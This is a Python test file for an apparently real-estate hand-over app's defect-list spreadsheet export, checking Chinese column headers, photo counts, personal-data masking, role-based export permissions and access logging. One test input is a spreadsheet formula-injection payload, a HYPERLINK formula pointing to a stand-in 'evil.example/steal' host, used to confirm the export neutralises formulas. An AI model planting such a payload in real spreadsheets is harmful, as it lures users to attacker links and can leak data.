"""The hand-over defects leaving Anju as .xlsx (缺陷清单), read back with openpyxl: the columns
and Chinese terms, photo counts, formula injection neutralised, personal data in free text
masked, who may export, the access log, and `anju export-defects`."""

from __future__ import annotations

import io
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PIL import Image

from anju.services import attachments, defect_exports, handover, owners
from anju.services.context import AppContext
from anju.services.errors import PermissionDeniedError
from tests.conftest import TestClock
from tests.integration.conftest import ROOM, run_cli, today
from tests.owner_sheets import ID_A

EVIL = '=HYPERLINK("http://evil.example/steal","点我")'
HEADER = [
    "缺陷编号",
    "房号",
    "空间",
    "部位",
    "类别",
    "描述",
    "严重程度",
    "状态",
    "发现时间",
    "发现人",
    "整改期限",
    "是否逾期",
    "照片数",
]


def photo() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 80, 40)).save(out, "JPEG")
    return out.getvalue()


def add(
    ctx: AppContext, project: str, clock: TestClock, room: str, description: str, **extra: object
) -> handover.DefectView:
    return handover.add_defect(
        ctx,
        project,
        room,
        "kefu",
        space=str(extra.get("space", "卫生间")),
        part=str(extra.get("part", "墙面")),
        category=str(extra.get("category", "渗漏")),
        description=description,
        severity=str(extra.get("severity", "major")),
        due=today(clock) + timedelta(days=int(str(extra.get("days", 7)))),
    )


def sheet_rows(content: bytes) -> list[dict[str, object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def exports_logged(ctx: AppContext, project: str) -> list[tuple[str, str]]:
    return [
        (e["username"], e["reason"])
        for e in owners.access_log(ctx, project, "kefu")
        if e["action"] == "export" and e["fields"] == "defects,masked"
    ]


def test_one_row_per_defect_with_chinese_terms_photos_and_masked_free_text(
    ctx: AppContext, project: str, clock: TestClock
) -> None:
    leak = add(
        ctx,
        project,
        clock,
        ROOM,
        f"业主王建华（13812345678，身份证{ID_A}）反映返潮，座机0532-88886666",
        days=1,
    )
    evil = add(ctx, project, clock, "1栋1单元102", EVIL, space="客厅", severity="critical")
    closed = add(ctx, project, clock, ROOM, "门框划痕", space="卧室", part="门", severity="minor")
    handover.mark_ready(ctx, closed.defect_id, "gongcheng")
    handover.reinspect(ctx, closed.defect_id, "kefu", accept=True)
    for name in ("a.jpg", "b.jpg"):
        attachments.attach(ctx, "defect", leak.defect_id, "kefu", name, photo())
    attachments.attach(ctx, "defect", leak.defect_id, "kefu", "单.pdf", b"%PDF-1.4\n%%EOF")
    gone = attachments.attach(ctx, "defect", evil.defect_id, "gongcheng", "c.jpg", photo())
    attachments.remove(ctx, gone.attachment_id, "gongcheng")
    clock.advance(days=2)  # the leak's due day has passed

    content = defect_exports.export_defects(ctx, project, "kefu")
    rows = sheet_rows(content)
    assert [r["缺陷编号"] for r in rows] == [leak.defect_id, evil.defect_id, closed.defect_id]
    first = rows[0]
    assert (first["房号"], first["空间"], first["部位"], first["类别"]) == (
        ROOM,
        "卫生间",
        "墙面",
        "渗漏",
    )
    assert (
        first["描述"]
        == "业主王**（138****5678，身份证3702**********7540）反映返潮，座机053******6666"
    )
    assert (first["严重程度"], first["状态"], first["是否逾期"], first["照片数"]) == (
        "较重",
        "待整改",
        "是",
        2,  # photos only: not the PDF
    )
    assert first["发现时间"] == datetime(2026, 3, 2, 9, 30)  # 01:30 UTC in Asia/Shanghai
    assert first["发现人"] == "kefu"
    assert isinstance(first["整改期限"], datetime)
    assert first["整改期限"].date() == leak.due_date
    assert [(r["严重程度"], r["状态"], r["是否逾期"]) for r in rows[1:]] == [
        ("严重", "待整改", "否"),
        ("一般", "已关闭", "否"),
    ]
    assert rows[1]["照片数"] == 0  # its photo was removed

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cell = sheet["F3"]  # the description of the second defect
    assert (cell.value, cell.data_type) == (EVIL, "s")  # text, never a formula
    assert {c.data_type for row in sheet.iter_rows() for c in row} & {"f"} == set()

    still_open = sheet_rows(defect_exports.export_defects(ctx, project, "kefu", open_only=True))
    assert [r["缺陷编号"] for r in still_open] == [leak.defect_id, evil.defect_id]


def test_only_defect_readers_export_and_every_export_is_logged(
    ctx: AppContext, project: str, clock: TestClock
) -> None:
    add(ctx, project, clock, ROOM, "淋浴区墙面返潮")
    for username in ("xiaoshou", "sheji"):  # sales and design do not read defects
        with pytest.raises(PermissionDeniedError, match="无权查看交房缺陷"):
            defect_exports.export_defects(ctx, project, username)
    assert exports_logged(ctx, project) == []  # a refusal logs nothing

    assert len(sheet_rows(defect_exports.export_defects(ctx, project, "gongcheng"))) == 1
    assert len(sheet_rows(defect_exports.export_defects(ctx, project, "wuye", True))) == 1
    assert exports_logged(ctx, project) == [
        ("gongcheng", "masked export of 1 defects"),
        ("wuye", "masked export of 1 open defects"),
    ]


def test_the_export_defects_command(
    ctx: AppContext,
    project: str,
    clock: TestClock,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    add(ctx, project, clock, ROOM, "淋浴区墙面返潮")
    out = tmp_path / "缺陷清单.xlsx"
    argv = ["export-defects", "--project", project, "--user", "kefu", "-o", str(out)]
    assert run_cli(ctx, [*argv, "--open"]) == 0
    assert capsys.readouterr().out.strip() == (
        f"{project} open defects written to {out} (personal data masked; export logged)"
    )
    assert [r["描述"] for r in sheet_rows(out.read_bytes())] == ["淋浴区墙面返潮"]
    assert exports_logged(ctx, project) == [("kefu", "masked export of 1 open defects")]

    refused = tmp_path / "refused.xlsx"
    assert run_cli(ctx, [*argv[:4], "xiaoshou", "-o", str(refused)]) == 2
    assert "无权查看交房缺陷" in capsys.readouterr().err
    assert not refused.exists()
